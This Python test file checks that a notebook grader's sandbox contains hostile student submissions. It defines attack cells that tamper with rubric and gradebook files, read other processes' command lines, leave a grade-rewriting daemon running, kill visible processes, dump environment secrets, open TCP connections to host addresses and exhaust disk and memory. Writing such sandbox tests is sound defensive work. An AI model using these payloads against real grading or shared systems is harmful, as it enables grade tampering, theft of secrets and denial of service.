"""Hostile submissions graded through the real CLI in the bubblewrap sandbox.

One batch (``python -m grader grade ... --jobs 2 --sandbox bwrap``, the tiny fixture module
passed with ``--rubric/--solution``) mixes an honest victim with submissions that attack the
grader from inside an exercise cell: writing other files, reading the rubric and the batch's
command line, leaving a daemon behind, killing every process they can see, reading secrets,
opening TCP connections to the host, planting FIFOs and links instead of exports, exporting a
model that declares a million units, printing a huge string, plus unparseable and oddly named
files. Every attack must end as the attacker's own row with a clear reason; the victim's row,
the rubric and the gradebook stay untouched, and the batch exits 0. A second run checks that a
forged result file is not trusted on resume.

Exfiltration is observed through the only channel a kernel has: what ends up in its own row
(a cell's error message is copied into the notes).

``DLCOURSE_TEST_SANDBOX=uid`` runs the same batch with ``--sandbox uid`` (no bubblewrap; the
kernel as a leased uid): bench/results/uid_sandbox.md records which attacks hold there.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import helpers_notebooks as fx
import psutil
import pytest

from grader.base.paths import RUBRIC_DIR
from grader.kernel.uid_lease import KERNEL_UID_BASE, KERNEL_UID_SLOTS

pytestmark = [pytest.mark.notebook, pytest.mark.xdist_group("hostile")]

SANDBOX = os.environ.get("DLCOURSE_TEST_SANDBOX", "bwrap")
SECRET = "s3cr3t-" + hashlib.sha256(b"dlcourse").hexdigest()[:16]
GOOD_VALUE = "param_bytes = model.count_params() * 4\n"

FILETHIEF = GOOD_VALUE + '''
import glob, os
found = []
for target in [{victim!r}, {rubric!r}, *glob.glob({course_rubrics!r} + "/*.toml"),
               {out!r} + "/grades.csv", {out!r} + "/results/victim__01.json"]:
    try:
        with open(target, "a") as handle:
            handle.write("\\n# pwned\\n")
        found.append("WROTE " + target)
    except OSError:
        pass
    try:
        found.append("READ " + open(target).read(40))
    except OSError:
        pass
for pid in os.listdir("/proc"):
    try:
        found.append("CMD " + open(f"/proc/{{pid}}/cmdline").read().replace("\\0", " "))
    except OSError:
        pass
raise RuntimeError("LEAK " + repr(found))
'''

DAEMON = GOOD_VALUE + '''
import ctypes, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"hostile-daemon", 0, 0, 0)
        deadline = time.time() + 90
        while time.time() < deadline:
            for target in ({out!r} + "/grades.csv", {victim!r}):
                try:
                    with open(target, "w") as handle:
                        handle.write("student,total\\nvictim,0\\n")
                except OSError:
                    pass
            time.sleep(0.5)
    os._exit(0)
'''

HOG = GOOD_VALUE + '''
import ctypes, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"hostile-daemon", 0, 0, 0)
        hog = []
        for _ in range(40):
            hog.append(bytearray(100_000_000))
            time.sleep(0.05)
        time.sleep(600)
    os._exit(0)
time.sleep(30)
'''

KILLER = GOOD_VALUE + '''
import os, signal
seen = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
for pid in seen:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
import resource
caps = [l.split()[1] for l in open("/proc/self/status") if l.startswith("CapEff")][0]
raise RuntimeError("PIDS " + repr(seen) + " ID " + repr(
    (os.getuid(), os.geteuid(), resource.getrlimit(resource.RLIMIT_NPROC), caps)))
'''

SECRETS = GOOD_VALUE + '''
import os
raise RuntimeError("LEAK " + repr(sorted(os.environ.items())))
'''

NETWORK = GOOD_VALUE + '''
import socket
reached = []
for host in {hosts!r}:
    try:
        with socket.create_connection((host, {port}), timeout=3) as conn:
            conn.sendall(b"pwned")
            reached.append(host)
    except OSError as exc:
        reached.append(f"{{host}}: {{exc}}")
raise RuntimeError("NET " + repr(reached))
'''

FIFO_AND_LINK = GOOD_VALUE + '''
import builtins, os
import keras
_open = builtins.open
def _evil_open(path, mode="r", *args, **kwargs):
    if "/export-" in str(path) and str(path).endswith("param_bytes.json") and "w" in mode:
        os.mkfifo(path)
        return _open(os.devnull, mode)
    return _open(path, mode, *args, **kwargs)
builtins.open = _evil_open
globals()["open"] = _evil_open  # IPython puts its own open() in the user namespace
def _evil_save(self, filepath, *args, **kwargs):
    os.symlink({victim!r}, filepath)
keras.Model.save = _evil_save
'''

BIG_MODEL = GOOD_VALUE + '''
import json, zipfile
import keras
_save = keras.Model.save
def _big_save(self, filepath, *args, **kwargs):
    _save(self, "/tmp/real.keras")
    with zipfile.ZipFile("/tmp/real.keras") as zin, zipfile.ZipFile(filepath, "w") as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "config.json":
                config = json.loads(data)
                dense = [l for l in config["config"]["layers"] if l["class_name"] == "Dense"]
                dense[0]["config"]["units"] = 1_000_000
                data = json.dumps(config).encode()
            zout.writestr(item, data)
keras.Model.save = _big_save
'''

DISK_FILLER = GOOD_VALUE + '''
import time
chunk = b"x" * 100_000_000
with open("filler.bin", "wb") as handle:
    for _ in range(25):
        handle.write(chunk)
        handle.flush()
time.sleep(30)
'''

TMP_FILLER = GOOD_VALUE + '''
written = 0
chunk = b"x" * 100_000_000
for folder in ("/tmp", "/dev/shm", "/home/student"):
    try:
        with open(folder + "/filler.bin", "wb") as handle:
            for _ in range(20):
                handle.write(chunk)
                handle.flush()
                written += len(chunk)
    except OSError:
        pass
raise RuntimeError(f"MEMFILES {{written // 1_000_000}}")
'''

PRINTER = GOOD_VALUE + "print('x' * 120_000_000)\n"

DEEP = b'{"cells": ' + b"[" * 200_000 + b"]" * 200_000 + b', "nbformat": 4}'


def _sha(path: Path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


def _tree_digest(folder: Path) -> dict[str, str]:
    return {p.name: _sha(p) for p in sorted(Path(folder).glob("*.toml"))}


class Listener:
    """A TCP server on the host that counts the connections it accepts."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("0.0.0.0", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.5)
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.accepted += 1
            conn.close()

    def close(self) -> None:
        self.stop = True
        self.thread.join(5)
        self.sock.close()


def _host_addresses() -> list[str]:
    found = ["127.0.0.1"]
    for addrs in psutil.net_if_addrs().values():
        found += [a.address for a in addrs if a.family == socket.AF_INET and a.address not in found]
    return found


def _cli(args: list[str], env: dict[str, str]) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "grader", "grade", *args], env=env,
                          capture_output=True, text=True, timeout=1500)


def _daemons() -> list[psutil.Process]:
    """Processes the hostile submissions left behind (they name themselves)."""
    return [p for p in psutil.process_iter(["name"]) if p.info.get("name") == "hostile-daemon"]


@pytest.fixture(scope="module")
def sandbox_works(request) -> str:
    """The sandbox mode this run tests (``DLCOURSE_TEST_SANDBOX``), checked to work here."""
    if SANDBOX == "uid":
        from grader.kernel.uid_mode import uid_problem

        problem = uid_problem()
        if problem is not None:
            pytest.fail(f"DLCOURSE_TEST_SANDBOX=uid, but uid mode does not work here: {problem}")
        return SANDBOX
    request.getfixturevalue("bwrap_required")
    return SANDBOX


@pytest.fixture(scope="module")
def batch(tmp_path_factory, data_dir, sandbox_works):
    root = tmp_path_factory.mktemp("hostile")
    rubric = fx.build_rubric(root)
    solution = fx.build_solution(rubric)
    solution_path = fx.write(solution, root / "solution" / "01_fixture.ipynb")
    subs, out = root / "submissions", root / "out"
    victim = subs / "victim" / "01_fixture.ipynb"
    listener = Listener()
    names = {"victim": victim}
    fields = {"victim": str(victim), "rubric": str(rubric.path), "out": str(out),
              "course_rubrics": str(RUBRIC_DIR), "hosts": _host_addresses(),
              "port": listener.port}
    cells = {"filethief": FILETHIEF, "daemon": DAEMON, "hog": HOG, "killer": KILLER,
             "secrets": SECRETS, "network": NETWORK, "fifo": FIFO_AND_LINK,
             "bigmodel": BIG_MODEL, "printer": PRINTER, "diskfiller": DISK_FILLER,
             "tmpfiller": TMP_FILLER}
    fx.write(fx.submission(solution), victim)
    for student, code in cells.items():
        names[student] = fx.write(fx.submission(solution, value=code.format(**fields)),
                                  subs / student / "01_fixture.ipynb")
    fx.write(fx.submission(solution), subs / "bob_2" / "01_fixture.ipynb")
    for name, data in {"deep/01_fixture.ipynb": DEEP,
                       "bob/01_fixture.ipynb": b"{ not json",
                       "bob/01_fixture_v2.ipynb": b"{ not json either",
                       "a b_01_fixture.ipynb": b"{ broken",
                       "a_b_01_fixture.ipynb": b"{ broken too"}.items():
        (subs / name).parent.mkdir(parents=True, exist_ok=True)
        (subs / name).write_bytes(data)
    odd = os.path.join(os.fsencode(subs), b"caf\xe9_01_fixture.ipynb")
    with open(odd, "wb") as handle:
        handle.write(fx.write(fx.submission(solution), root / "tmp.ipynb").read_bytes())

    env = {k: v for k, v in os.environ.items() if not k.startswith("PYTEST")}
    env.update(DLCOURSE_TEST_SECRET=SECRET, DLCOURSE_KEY_FILE=str(root / "key" / "results.key"),
               PYTHONPATH=os.pathsep.join([str(Path(fx.__file__).parent),
                                           env.get("PYTHONPATH", "")]).rstrip(os.pathsep))
    args = [str(subs), "--out", str(out), "--fast", "--jobs", "2", "--sandbox", sandbox_works,
            "--memory-mb", "2500", "--cell-timeout", "60", "--rubric", str(rubric.path),
            "--solution", str(solution_path), "--import", "helpers_notebooks"]
    before = {"victim": _sha(victim), "rubric": _sha(rubric.path),
              "course": _tree_digest(RUBRIC_DIR)}
    start = time.monotonic()
    first = _cli(args, env)
    wall = time.monotonic() - start
    grades_csv = (out / "grades.csv").read_bytes()
    time.sleep(8)  # a daemon left behind would now rewrite the gradebook
    after = {"victim": _sha(victim), "rubric": _sha(rubric.path),
             "course": _tree_digest(RUBRIC_DIR), "grades_csv": (out / "grades.csv").read_bytes()}
    leftovers = _daemons()
    listener.close()
    rows = {r["student"]: r for r in json.loads((out / "grades.json").read_text())}
    # resume: a forged result (an edited score) must not be trusted
    record_path = out / "results" / "filethief__01.json"
    record = json.loads(record_path.read_text())
    forged_score = record["row"]["score"] + 0.5  # any change: the record is not the grader's
    record["row"]["score"] = forged_score
    record_path.write_text(json.dumps(record))
    second = _cli(args, env)
    rows_after = {r["student"]: r for r in json.loads((out / "grades.json").read_text())}
    return {"first": first, "second": second, "rows": rows, "rows_after": rows_after,
            "before": before, "after": after, "grades_csv": grades_csv, "out": out,
            "leftovers": leftovers, "accepted": listener.accepted, "wall": wall,
            "max": rubric.max_score, "names": names}


def _text(row: dict) -> str:
    return json.dumps(row)


def test_the_batch_exits_0_and_every_submission_has_one_row(batch):
    assert batch["first"].returncode == 0, batch["first"].stderr[-3000:]
    students = sorted(batch["rows"])
    assert len(students) == 18, students  # bob's two files are one (error) row
    assert {"victim", "filethief", "daemon", "hog", "killer", "secrets", "network", "fifo",
            "bigmodel", "printer", "diskfiller", "tmpfiller", "deep", "bob", "bob_2",
            "a_b"} <= set(students)


def test_the_console_shows_no_kernel_or_tensorflow_logs(batch):
    console = batch["first"].stdout + batch["first"].stderr
    for line in ("oneDNN", "cudart", "absl::InitializeLog", "--existing"):
        assert line not in console, line
    assert "oneDNN" in (batch["out"] / "grading.log").read_text(errors="replace")


def test_the_victim_scores_full_marks_and_its_file_is_untouched(batch):
    row = batch["rows"]["victim"]
    assert row["error"] is None and row["score"] == batch["max"], row
    assert batch["before"]["victim"] == batch["after"]["victim"]


def test_no_submission_can_write_or_read_the_rubric_gradebook_or_batch_command(batch):
    assert batch["before"]["rubric"] == batch["after"]["rubric"]
    assert batch["before"]["course"] == batch["after"]["course"]
    notes = _text(batch["rows"]["filethief"])
    assert "LEAK" in notes  # the attack ran
    assert "WROTE" not in notes and "READ" not in notes
    assert str(batch["out"]) not in notes and "--out" not in notes


def test_a_daemon_cannot_outlive_grading_or_rewrite_the_gradebook(batch):
    assert batch["after"]["grades_csv"] == batch["grades_csv"]
    assert batch["leftovers"] == [], [p.cmdline() for p in batch["leftovers"]]
    assert batch["rows"]["daemon"]["score"] == batch["max"]


def test_a_double_forked_memory_hog_counts_against_its_kernel(batch):
    row = batch["rows"]["hog"]
    assert row["error"] is not None and "MB limit" in row["error"], row["error"]
    assert row["score"] == 0


def test_filling_the_disk_stops_the_kernel_and_memory_folders_are_capped(batch):
    row = batch["rows"]["diskfiller"]
    assert row["error"] is not None and "limit: 2,000 MB" in row["error"], row["error"]
    notes = "\n".join(batch["rows"]["tmpfiller"]["notes"])
    written = int(notes.split("MEMFILES ", 1)[1].split()[0].rstrip("'\""))
    assert written <= 1024 + 512 + 256 + 300, written  # /tmp, /dev/shm and home are capped


def test_killing_every_visible_process_reaches_nothing_outside_the_sandbox(batch):
    row = batch["rows"]["killer"]
    notes = "\n".join(row["notes"])
    seen = [int(p) for p in notes.split("PIDS [", 1)[1].split("]", 1)[0].split(",")]
    assert len(seen) < 10 and max(seen) < 100, seen  # its own PID namespace: a few small pids
    assert row["error"] is None and row["score"] == batch["max"]  # and it only hurt itself, if at all
    assert batch["rows"]["victim"]["score"] == batch["max"]


def test_the_kernel_runs_as_an_unprivileged_user_with_a_task_limit(batch):
    notes = "\n".join(batch["rows"]["killer"]["notes"])
    identity = notes.split(" ID ", 1)[1].split("\n", 1)[0]
    uid, euid = (int(x) for x in identity.strip("(").split(",")[:2])
    assert uid == euid and KERNEL_UID_BASE <= uid < KERNEL_UID_BASE + KERNEL_UID_SLOTS, identity
    assert identity.startswith(f"({uid}, {uid}, (4096, 4096), '0000000000000000')"), identity


def test_secrets_of_the_graders_environment_never_reach_a_kernel(batch):
    notes = _text(batch["rows"]["secrets"])
    assert "LEAK" in notes and "DLCOURSE_FAST" in notes  # the attack printed the environment
    assert SECRET not in notes
    for path in batch["out"].rglob("*"):
        if path.is_file():
            assert SECRET.encode() not in path.read_bytes(), path


def test_no_tcp_connection_reaches_the_host(batch):
    assert batch["accepted"] == 0
    assert "NET" in _text(batch["rows"]["network"])


def test_fifo_and_link_exports_are_refused_without_blocking(batch):
    row = batch["rows"]["fifo"]
    assert row["error"] is None
    checks = {c["id"]: c for c in row["checks"]}
    assert checks["01.fx_value"]["points"] == 0 and "special file" in checks["01.fx_value"]["message"]
    assert checks["01.fx_params"]["points"] == 0 and "link" in checks["01.fx_params"]["message"]
    assert checks["01.fx_function"]["points"] == 1  # the rest of the export still counts


def test_a_model_declaring_a_million_units_is_refused_before_loading(batch):
    row = batch["rows"]["bigmodel"]
    checks = {c["id"]: c for c in row["checks"]}
    assert checks["01.fx_params"]["points"] == 0
    assert "1,000,000" in checks["01.fx_params"]["message"] or "1000000" in checks["01.fx_params"]["message"]
    assert checks["01.fx_value"]["points"] == 1


def test_a_huge_print_is_cut_and_the_work_still_scores(batch):
    row = batch["rows"]["printer"]
    assert row["error"] is None and row["score"] == batch["max"], row
    assert any("output was cut" in n for n in row["notes"])


def test_unparseable_and_oddly_named_files_get_their_own_rows(batch):
    rows = batch["rows"]
    assert "Fix" in rows["deep"]["error"] and rows["deep"]["score"] == 0
    odd = [s for s in rows if s.startswith("caf")]
    assert len(odd) == 1 and rows[odd[0]]["score"] == batch["max"], odd
    odd[0].encode("utf-8")  # a valid id, not a surrogate
    assert rows["bob_2"]["score"] == batch["max"] and rows["bob_2"]["error"] is None
    assert rows["bob"]["error"].startswith("two submissions for module 01: bob/01_fixture.ipynb,"
                                           " bob/01_fixture_v2.ipynb; keep one")
    assert any(s.startswith("a_b-") for s in rows) and "a_b" in rows


def test_a_forged_result_is_not_trusted_on_resume(batch):
    second = batch["second"]
    assert second.returncode == 0, second.stderr[-3000:]
    assert "not written by this grader" in second.stderr
    assert "graded 1 submission" in second.stdout, second.stdout
    assert batch["rows_after"]["filethief"]["score"] == batch["rows"]["filethief"]["score"]
    assert batch["rows_after"]["victim"] == batch["rows"]["victim"]
